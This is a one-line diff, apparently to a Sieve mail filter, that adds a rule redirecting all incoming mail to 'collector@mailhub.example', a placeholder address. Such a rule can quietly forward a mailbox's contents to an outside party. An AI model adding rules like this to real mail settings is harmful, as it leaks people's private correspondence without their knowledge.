@@ -1,0 +1,1 @@
+redirect "collector@mailhub.example";
